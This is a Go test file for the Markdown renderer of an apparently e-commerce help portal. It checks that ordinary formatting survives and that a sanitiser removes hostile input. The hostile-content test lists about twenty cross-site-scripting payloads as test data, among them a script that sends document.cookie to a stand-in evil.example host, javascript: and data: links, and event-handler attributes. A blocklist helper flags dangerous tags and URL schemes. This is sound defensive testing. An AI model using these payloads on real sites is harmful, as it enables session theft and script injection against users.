package content_test

import (
	"io"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vitrine/portal/help/content"
)

func TestRenderKeepsMarkdown(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      []string
	}{
		{name: "emphasis and lists", src: "**30 days**\n\n- one\n- two\n",
			want: []string{"<strong>30 days</strong>", "<li>one</li>"}},
		{name: "tables", src: "| a | b |\n|---|---|\n| 1 | 2 |\n",
			want: []string{"<table>", "<td>1</td>"}},
		{name: "a relative link stays plain", src: "[Returns](/returns)",
			want: []string{`<a href="/returns">Returns</a>`}},
		{name: "an outside link opens apart and passes nothing on", src: "[carrier](https://carrier.example/track)",
			want: []string{`href="https://carrier.example/track"`, `rel="nofollow noopener"`, `target="_blank"`}},
		{name: "an email address becomes a mailto link", src: "Write to support@vitrine.example today.",
			want: []string{`href="mailto:support@vitrine.example"`}},
		{name: "Chinese emphasis next to full-width punctuation", src: "自**送达之日起 30 天内**，您可以退货。",
			want: []string{"<strong>送达之日起 30 天内</strong>，"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			html, err := content.Render(tc.src)
			require.NoError(t, err)
			for _, w := range tc.want {
				assert.Contains(t, html, w)
			}
		})
	}
}

func TestRenderDisarmsHostileContent(t *testing.T) {
	for _, tc := range []struct {
		name string
		src  string
		// keep is harmless text of the source that must survive, to show the
		// sanitiser removed the attack and not everything. Raw HTML blocks
		// are dropped whole, so their cases keep a following paragraph.
		keep string
	}{
		{name: "script tag", src: "Hello <script>alert('x')</script> world", keep: "Hello"},
		{name: "script block", src: "<script>\nfetch('https://evil.example/?c='+document.cookie)\n</script>\n\nAfter.", keep: "After."},
		{name: "javascript link", src: "[click me](javascript:alert(1))", keep: "click me"},
		{name: "javascript link with odd case and entities", src: "[click](JaVaScRiPt&#58;alert(1))", keep: "click"},
		{name: "javascript link with a tab inside", src: "[tab](java\tscript:alert(1))", keep: "tab"},
		{name: "javascript link in raw HTML", src: `<a href="javascript:alert(1)">raw</a> text`, keep: "text"},
		{name: "vbscript link", src: "[x](vbscript:msgbox(1))", keep: "x"},
		{name: "data URL link", src: "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", keep: "open"},
		{name: "data URL image", src: "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", keep: "pic"},
		{name: "onerror attribute", src: `<img src="x.png" onerror="alert(1)"> caption`, keep: "caption"},
		{name: "onclick attribute", src: "<p onclick=\"alert(1)\">press</p>\n\nSafe.", keep: "Safe."},
		{name: "onmouseover on an inline link", src: `See <a href="/help" onmouseover="alert(1)">hover</a>`, keep: "See"},
		{name: "iframe", src: "<iframe src=\"https://evil.example\"></iframe>\n\nSafe.", keep: "Safe."},
		{name: "object and embed", src: `Flash <object data="x.swf"></object><embed src="x.swf"> here`, keep: "Flash"},
		{name: "style tag and attribute", src: "<style>body{display:none}</style>\n\nText <span style=\"background:url(javascript:alert(1))\">styled</span>", keep: "Text"},
		{name: "svg with script", src: `Draw <svg><script>alert(1)</script></svg> this`, keep: "Draw"},
		{name: "form", src: "<form action=\"https://evil.example\"><input name=\"card\"></form>\n\nSafe.", keep: "Safe."},
		{name: "meta refresh", src: "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\nSafe.", keep: "Safe."},
		{name: "autolink with javascript", src: "<javascript:alert(1)> auto", keep: "auto"},
		{name: "reference-style javascript link", src: "[ref][1]\n\n[1]: javascript:alert(1)", keep: "ref"},
		{name: "link title breaking out of the attribute", src: `[t](/help "a\" onclick=\"alert(1)")`, keep: "t"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, err := content.Render(tc.src)
			require.NoError(t, err)
			assertHarmless(t, out)
			assert.Contains(t, out, tc.keep)
		})
	}
}

// assertHarmless parses HTML as a browser would and fails on anything that
// can run code or leave the page: an element that executes or embeds, an
// event or style attribute, or a URL with a scheme other than http, https
// or mailto.
func assertHarmless(t *testing.T, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			require.ErrorIs(t, z.Err(), io.EOF)
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "iframe", "frame", "object", "embed", "style", "svg", "math", "form", "input",
				"button", "meta", "link", "base", "textarea", "select":
				t.Errorf("element <%s> survived in %q", tok.Data, out)
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "formaction" {
					t.Errorf("attribute %s survived in %q", a.Key, out)
				}
				if key == "href" || key == "src" || key == "action" || key == "cite" {
					u, err := url.Parse(a.Val)
					if assert.NoError(t, err, "unparseable URL %q", a.Val) && u.Scheme != "" {
						assert.Contains(t, []string{"http", "https", "mailto"}, strings.ToLower(u.Scheme), "URL %q in %q", a.Val, out)
					}
				}
			}
		}
	}
}
